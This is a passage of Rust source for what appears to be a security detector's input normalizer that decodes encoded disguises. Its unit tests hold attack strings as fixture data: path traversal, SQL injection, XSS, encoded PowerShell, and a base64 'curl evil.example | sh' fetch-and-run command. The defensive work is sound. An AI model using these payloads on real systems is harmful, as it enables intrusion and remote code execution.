        && bytes.len().is_multiple_of(2)
        && bytes.chunks(2).filter(|p| p[1] == 0 && p[0] != 0).count() * 10 >= bytes.len() / 2 * 9;
    let decoded: Cow<str> = if utf16 {
        let units: Vec<u16> = bytes.chunks(2).map(|p| u16::from_le_bytes([p[0], p[1]])).collect();
        Cow::Owned(String::from_utf16_lossy(&units))
    } else {
        Cow::Borrowed(std::str::from_utf8(bytes).ok()?)
    };
    let total = decoded.chars().count();
    let bad = decoded.chars().filter(|&c| (c.is_control() && !c.is_whitespace()) || c == '\u{fffd}').count();
    if total < min_chars || bad * 10 > total {
        return None;
    }
    let mut clean = String::with_capacity(decoded.len());
    for word in decoded.split(|c: char| c.is_whitespace() || c.is_control()).filter(|w| !w.is_empty()) {
        if !clean.is_empty() {
            clean.push(' ');
        }
        clean.push_str(word);
    }
    if clean.is_empty() {
        return None;
    }
    Some((clean, utf16))
}

/// A run of at least two `0xHH` units at `at` (`0x2e0x2e0x2f`): its decoded bytes and length.
fn hex_units_at(bytes: &[u8], at: usize) -> Option<(Vec<u8>, usize)> {
    let is_unit_start = |i: usize| bytes.get(i) == Some(&b'0') && matches!(bytes.get(i + 1), Some(b'x' | b'X'));
    let mut out = Vec::new();
    let mut i = at;
    while is_unit_start(i) {
        let Some(v) = hex_digits(bytes, i + 2, 2) else { break };
        let more_digits = bytes.get(i + 4).is_some_and(u8::is_ascii_hexdigit) && !is_unit_start(i + 4);
        if more_digits && out.is_empty() {
            return None; // a longer literal like 0x2e5f, not a unit run
        }
        out.push(v as u8);
        i += 4;
        if more_digits {
            break;
        }
    }
    (out.len() >= 2).then_some((out, i - at))
}

/// A decoded blob: where it was, what replaces it, and its kind.
struct Blob {
    range: Range<usize>,
    text: String,
    kind: DecodingKind,
}

/// The blob starting at `at`, if any. Base64 is tried only when `try_base64` (once per run);
/// the error is the end of the base64 run looked at, if one was.
fn blob_at(s: &str, at: usize, try_base64: bool) -> Result<Blob, Option<usize>> {
    let bytes = s.as_bytes();
    let boundary = at == 0 || !bytes[at - 1].is_ascii_alphanumeric();
    if boundary && bytes[at] == b'0' && matches!(bytes.get(at + 1), Some(b'x' | b'X')) {
        if let Some((decoded, n)) = hex_units_at(bytes, at) {
            if decoded.iter().all(|b| (0x21..=0x7e).contains(b)) {
                let text = String::from_utf8_lossy(&decoded).into_owned();
                return Ok(Blob { range: at..at + n, text, kind: DecodingKind::Hex });
            }
        }
        let digits = bytes[at + 2..].iter().take_while(|b| b.is_ascii_hexdigit()).count();
        let end = at + 2 + digits;
        let followed_by_word = bytes.get(end).is_some_and(|b| b.is_ascii_alphanumeric());
        if (8..=MAX_BLOB_BYTES).contains(&digits) && !followed_by_word {
            if let Some((text, _)) = hex_decode(&bytes[at + 2..end]).and_then(|d| as_text(&d, 4)) {
                if text.chars().all(|c| !c.is_control()) {
                    return Ok(Blob { range: at..end, text, kind: DecodingKind::Hex });
                }
            }
        }
    }
    if !(try_base64 && is_b64(bytes[at]) && (at == 0 || !is_b64(bytes[at - 1]))) {
        return Err(None);
    }
    let mut end = at;
    while end < bytes.len() && is_b64(bytes[end]) {
        end += 1;
    }
    let run_end = end;
    let mut padded_end = end;
    while padded_end < bytes.len() && padded_end - end < 2 && bytes[padded_end] == b'=' {
        padded_end += 1;
    }
    if end - at < MIN_BLOB_CHARS {
        return Err(Some(run_end));
    }
    let run = &bytes[at..end.min(at + MAX_BLOB_BYTES)];
    let run = &run[..if end - at > MAX_BLOB_BYTES { run.len() / 4 * 4 } else { run.len() }];
    // Long hex strings with at least one letter (so numeric ids stay numbers).
    if run.len() >= MIN_BLOB_CHARS
        && run.iter().all(u8::is_ascii_hexdigit)
        && run.iter().any(u8::is_ascii_alphabetic)
        && run.len().is_multiple_of(2)
    {
        if let Some((text, _)) = hex_decode(run).and_then(|d| as_text(&d, 8)) {
            return Ok(Blob { range: at..end, text, kind: DecodingKind::Hex });
        }
    }
    // A run starting with a flag dash or a path slash may carry its blob after it.
    for skip in [0usize, 1] {
        if skip == 1 && !matches!(run.first(), Some(b'-' | b'/' | b'_')) {
            break;
        }
        let body = &run[skip..];
        if body.len() < MIN_BLOB_CHARS {
            break;
        }
        if let Some((text, utf16)) = base64_decode(body).and_then(|d| as_text(&d, 4)) {
            let kind = if utf16 { DecodingKind::Base64Utf16 } else { DecodingKind::Base64 };
            return Ok(Blob { range: at + skip..padded_end, text, kind });
        }
    }
    Err(Some(run_end))
}

/// Replaces decodable blobs of `input` by their marked decoded text. `None` when there are none.
fn blob_pass_over(input: &str, prior: &[SpanMap], decodings: &mut Vec<Decoding>) -> Option<(String, SpanMap)> {
    let bytes = input.as_bytes();
    let mut w: Option<Writer> = None;
    let mut copied_to = 0;
    // Base64 runs already tried; `0x` forms inside them are still looked for.
    let mut base64_tried_to = 0;
    let mut i = 0;
    while i < bytes.len() {
        if !is_b64(bytes[i]) {
            i += 1;
            continue;
        }
        match blob_at(input, i, i >= base64_tried_to) {
            Ok(blob) => {
                let w = w.get_or_insert_with(|| Writer::with_capacity(input.len() + 32));
                if w.out.len() > 2 * MAX_INPUT_BYTES {
                    break;
                }
                if blob.range.start > copied_to {
                    copy_text(w, input, copied_to..blob.range.start);
                }
                let label = match blob.kind {
                    DecodingKind::Hex => "hex",
                    _ => "base64",
                };
                w.virtual_space(blob.range.start);
                w.replace(blob.range.clone(), &format!("[{label}: {}]", blob.text));
                w.virtual_space(blob.range.end);
                record(decodings, prior, blob.kind, blob.range.clone());
                copied_to = blob.range.end;
                i = blob.range.end;
            }
            Err(run_end) => {
                base64_tried_to = base64_tried_to.max(run_end.unwrap_or(0));
                i += 1;
            }
        }
    }
    let mut w = w?;
    if copied_to < input.len() {
        copy_text(&mut w, input, copied_to..input.len());
    }
    let (out, map) = w.finish(input.len())?;
    Some((out, map.unwrap_or_default()))
}

/// Copies `input[range]`, turning its spaces into the writer's whitespace (so a space next to a
/// blob marker does not double).
fn copy_text(w: &mut Writer, input: &str, range: Range<usize>) {
    let mut start = range.start;
    for (k, b) in input[range.clone()].bytes().enumerate() {
        if b == b' ' {
            let at = range.start + k;
            if at > start {
                w.copy(start, &input[start..at]);
            }
            w.whitespace(at..at + 1, true);
            start = at + 1;
        }
    }
    if range.end > start {
        w.copy(start, &input[start..range.end]);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn norm(s: &str) -> String {
        normalize(s).text
    }

    fn kinds(s: &str) -> Vec<DecodingKind> {
        normalize(s).decodings.iter().map(|d| d.kind).collect()
    }

    #[test]
    fn clean_text_is_only_lowercased_and_whitespace_collapsed() {
        for s in [
            "Dec 10 11:02:34 LabSZ sshd[25390]: Accepted password for jdoe from 10.0.0.5 port 40476 ssh2",
            "081111 043042 20058 INFO dfs.DataNode$DataXceiver: Receiving block blk_345577139488306634",
            "03-17 16:16:04.858 1702 1736 W ActivityManager: getRunningAppProcesses: caller 10111",
            "glorieta mineros, 3,",
            "en8relan3amien0o",
            "0882871112681539",
            "tar -xvzf archive.tar.gz -C /usr/share/applications/somewhere",
            "Get-ChildItem -Path C:\\Users\\Public -Recurse",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "Your invoice for March is attached",
            "WindowsPowerShell internationalization",
            "",
        ] {
            let n = normalize(s);
            assert_eq!(n.text, s.to_lowercase(), "{s}");
            assert!(n.decodings.is_empty(), "{s}: {:?}", n.decodings);
            assert!(!n.truncated);
        }
        assert_eq!(norm("  Two   spaces\tand\r\na tab  "), "two spaces and a tab");
        assert_eq!(norm("Ünïcödé ÄÖ text"), "ünïcödé äö text");
        assert!(normalize("Ünïcödé").decodings.is_empty());
        // A whole word in another script is not a disguise.
        assert_eq!(norm("Привет мир"), "привет мир");
    }

    #[test]
    fn percent_escapes_decode_repeatedly_and_leniently() {
        assert_eq!(norm("%2e%2e%2f%2e%2e%2fetc%2fpasswd"), "../../etc/passwd");
        assert_eq!(norm("%252e%252e%252fetc"), "../etc");
        assert_eq!(norm("%25252e%25252e%25252f"), "../", "triple encoding");
        assert_eq!(norm("..%c0%af..%c0%afboot.ini"), "../../boot.ini", "overlong 2-byte slash");
        assert_eq!(norm("..%e0%80%afwindows"), "../windows", "overlong 3-byte slash");
        assert_eq!(norm("%u002e%u002e%u2215etc"), "../etc", "IIS %u and a look-alike slash");
        assert_eq!(norm("caf%C3%A9"), "café");
        assert_eq!(norm("1%27%20OR%20%271%27%3D%271"), "1' or '1'='1");
        assert_eq!(norm("file.php%00.jpg"), "file.php%00.jpg", "a NUL stays visible");
        assert_eq!(norm("100% sure %zz %4"), "100% sure %zz %4");
        assert_eq!(kinds("%2e%2e%2f"), [DecodingKind::Percent]);
        assert_eq!(normalize("a%2e%2e%2fb").decodings[0].original, 1..10);
        assert_eq!(kinds("%u003c"), [DecodingKind::PercentUnicode]);
        assert_eq!(norm("%uD83D%uDE00"), "😀");
        assert_eq!(norm("%uD83D"), "%ud83d", "a lone surrogate stays");
    }

    #[test]
    fn html_entities_decode() {
        assert_eq!(norm("&lt;script&gt;alert(1)&lt;/script&gt;"), "<script>alert(1)</script>");
        assert_eq!(norm("&#60;img src=x onerror=&#x61;lert(1)&#62;"), "<img src=x onerror=alert(1)>");
        assert_eq!(norm("&#0000060script&#62"), "<script>", "no semicolon, leading zeros");
        assert_eq!(norm("java&Tab;script&colon;alert(1)"), "java script:alert(1)");
        assert_eq!(norm("&amp;lt;b&amp;gt;"), "<b>", "double-encoded");
        assert_eq!(norm("AT&T &unknown; &#0; & done"), "at&t &unknown; &#0; & done");
        assert_eq!(kinds("&lt;b&gt;"), [DecodingKind::HtmlEntity, DecodingKind::HtmlEntity]);
    }

    #[test]
    fn backslash_escapes_decode() {
        assert_eq!(norm("\\u003cscript\\u003e"), "<script>");
        assert_eq!(norm("\\u{3c}svg\\u{3e}"), "<svg>");
        assert_eq!(norm("\\x3cimg\\x3e"), "<img>");
        assert_eq!(norm("\\x61\\x6c\\x65\\x72\\x74(1)"), "alert(1)");
        assert_eq!(norm("C:\\x64\\tools"), "c:\\x64\\tools", "a lone \\x letter is a path");
        assert_eq!(norm("\\xc3\\xa9"), "é");
        assert_eq!(norm("\\x90\\x90\\xcc"), "\\x90\\x90\\xcc", "binary stays as written");
        assert_eq!(norm("\\ud83d\\ude00"), "😀");
        assert_eq!(kinds("\\x3c"), [DecodingKind::HexEscape]);
        assert_eq!(kinds("\\u003c"), [DecodingKind::UnicodeEscape]);
    }

    #[test]
    fn unicode_disguises_fold() {
        assert_eq!(norm("ＳＥＬＥＣＴ＊ＦＲＯＭ　users"), "select*from users");
        assert_eq!(kinds("ＳＥＬＥＣＴ"), [DecodingKind::Fullwidth]);
        assert_eq!(norm("ad\u{200b}min\u{202e}"), "admin");
        assert_eq!(kinds("ad\u{200b}min"), [DecodingKind::Invisible]);
        assert_eq!(norm("pаypаl.com"), "paypal.com", "Cyrillic а inside a Latin word");
        assert_eq!(norm("аррle"), "apple", "Cyrillic run next to Latin letters");
        assert_eq!(kinds("pаypal"), [DecodingKind::Homoglyph]);
        assert_eq!(norm("𝐬𝐞𝐥𝐞𝐜𝐭 x"), "select x");
        assert_eq!(norm("ⓐdmin"), "admin");
        assert_eq!(norm("You’ve won — claim now"), "you've won - claim now");
        assert_eq!(norm("a\u{a0}b\u{3000}c"), "a b c");
        assert_eq!(norm("％２ｅ％２ｅ／"), "../", "fullwidth percent escapes decode in the next round");
    }

    #[test]
    fn base64_blobs_are_substituted_with_their_text() {
        // "whoami /all" in UTF-16LE, as powershell -enc takes it.
        let n = normalize("powershell.exe -NoP -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==");
        assert_eq!(n.text, "powershell.exe -nop -enc [base64: whoami /all]");
        assert_eq!(n.decodings[0].kind, DecodingKind::Base64Utf16);
        let blob = "dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==";
        let at = "powershell.exe -NoP -enc ".len();
        assert_eq!(n.decodings[0].original, at..at + blob.len());
        // "curl http://evil.example/x.sh | sh" in UTF-8.
        assert_eq!(
            norm("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA== | base64 -d | bash"),
            "echo [base64: curl http://evil.example/x.sh | sh] | base64 -d | bash"
        );
        assert_eq!(norm("x=Y3VybCBodHRwOi8vZXZpbC5leGFtcGxl"), "x= [base64: curl http://evil.example]");
        // Random-looking alphabet runs that are not text stay.
        assert_eq!(norm("token=AKIAIOSFODNN7EXAMPLEkey"), "token=akiaiosfodnn7examplekey");
    }

    #[test]
    fn hex_blobs_are_substituted_with_their_text() {
        assert_eq!(norm("select 0x7171706a71,0x78"), "select [hex: qqpjq] ,0x78");
        assert_eq!(norm("/0x2e0x2e0x2f0x2e0x2e0x2fetc"), "/ [hex: ../../] etc");
        assert_eq!(norm("id=2f6574632f706173737764"), "id= [hex: /etc/passwd]");
        assert_eq!(kinds("2f6574632f706173737764"), [DecodingKind::Hex]);
        // Hashes and numeric ids stay.
        assert_eq!(
            norm("sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
            "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
        );
        assert_eq!(norm("blk_3132333435363738"), "blk_3132333435363738");
    }

    #[test]
    fn spans_map_decoded_text_back_to_the_encoded_original() {
        let original = "GET /a?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1";
        let n = normalize(original);
        let at = n.text.find("../../etc/passwd").unwrap();
        let span = n.original_span(at..at + "../../etc/passwd".len());
        assert_eq!(&original[span], "%2e%2e%2f%2e%2e%2fetc%2fpasswd");
        let http = n.text.find("http").unwrap();
        assert_eq!(&original[n.original_span(http..http + 4)], "HTTP");

        let original = "  Hello\t\tWorld  ";
        let n = normalize(original);
        assert_eq!(n.text, "hello world");
        assert_eq!(&original[n.original_span(6..11)], "World");
        assert_eq!(&original[n.original_span(0..11)], "Hello\t\tWorld");

        let original = "run SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA= now";
        let n = normalize(original);
        assert!(n.text.contains("[base64: iex (new-object)]"), "{}", n.text);
        let inside = n.text.find("iex").unwrap();
        assert_eq!(&original[n.original_span(inside..inside + 3)], "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=");
        let now = n.text.find("now").unwrap();
        assert_eq!(&original[n.original_span(now..now + 3)], "now");

        // Double encoding: through two maps.
        let original = "x%252fy";
        let n = normalize(original);
        assert_eq!(n.text, "x/y");
        assert_eq!(&original[n.original_span(1..2)], "%252f");
        assert_eq!(&original[n.original_span(0..3)], "x%252fy");
    }

    /// A small deterministic generator for the property loops.
    fn next(state: &mut u64) -> u64 {
        *state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = *state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    #[test]
    fn mapped_spans_are_always_valid_char_boundaries() {
        const PIECES: &[&str] = &[
            "a",
            "Z",
            " ",
            "  ",
            "\t",
            "%2e",
            "%252f",
            "%c0%af",
            "%u2216",
            "%",
            "&lt;",
            "&#x3c",
            "&amp;gt;",
            "&",
            "\\x3c",
            "\\u0061",
            "\\",
            "é",
            "ｓ",
            "а",
            "\u{200b}",
            "€",
            "😀",
            "\u{a0}",
            "0x2e0x2e",
            "0x414243444546",
            "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxl",
            "dwBoAG8AYQBtAGkA",
            "İ",
            "\n",
            "\u{0}",
            "=",
            "/",
            "-",
        ];
        let mut state = 42u64;
        for _ in 0..3000 {
            let parts = 1 + (next(&mut state) % 12) as usize;
            let mut s = String::new();
            for _ in 0..parts {
                s.push_str(PIECES[(next(&mut state) % PIECES.len() as u64) as usize]);
            }
            let n = normalize(&s);
            let len = n.text.len();
            for _ in 0..8 {
                let a = (next(&mut state) % (len as u64 + 2)) as usize;
                let b = (next(&mut state) % (len as u64 + 2)) as usize;
                let (a, b) = (a.min(b), a.max(b));
                let r = n.original_span(a..b);
                assert!(r.start <= r.end && r.end <= s.len(), "{s:?} {a}..{b} -> {r:?}");
                assert!(s.is_char_boundary(r.start) && s.is_char_boundary(r.end), "{s:?} {a}..{b} -> {r:?}");
            }
            assert!(n.original_span(0..len).end <= s.len());
            for d in &n.decodings {
                assert!(d.original.start < d.original.end && d.original.end <= s.len(), "{s:?} {d:?}");
                assert!(s.is_char_boundary(d.original.start) && s.is_char_boundary(d.original.end));
            }
            // Normalizing again changes nothing more than a second look at what was decoded.
            assert!(!n.text.starts_with(' ') && !n.text.ends_with(' ') && !n.text.contains("  "), "{:?}", n.text);
        }
    }

    #[test]
    fn huge_and_hostile_input_is_bounded() {
        let huge = "é%2".repeat(100_000);
        let n = normalize(&huge);
        assert!(n.truncated);
        assert!(n.text.len() <= MAX_INPUT_BYTES);
        let nested = format!("{}2e", "%25".repeat(50));
        let n = normalize(&nested);
        assert!(n.text.starts_with('%'), "decoding stops after the bounded rounds: {}", n.text);
        let blob = "QUFB".repeat(20_000); // "AAA…" as base64, longer than a blob is decoded
        let n = normalize(&blob);
        assert!(n.text.len() < MAX_INPUT_BYTES);
        assert!(n.text.starts_with("[base64: aaaa"));
        assert_eq!(normalize("").text, "");
        assert_eq!(normalize(" \t\n ").text, "");
        assert_eq!(normalize(" \t\n ").original_span(0..0), 0..0);
        assert!(normalize(&"&".repeat(10_000)).decodings.is_empty());
        assert!(normalize(&"\u{200b}".repeat(30_000)).decodings.len() <= MAX_DECODINGS);
    }
}
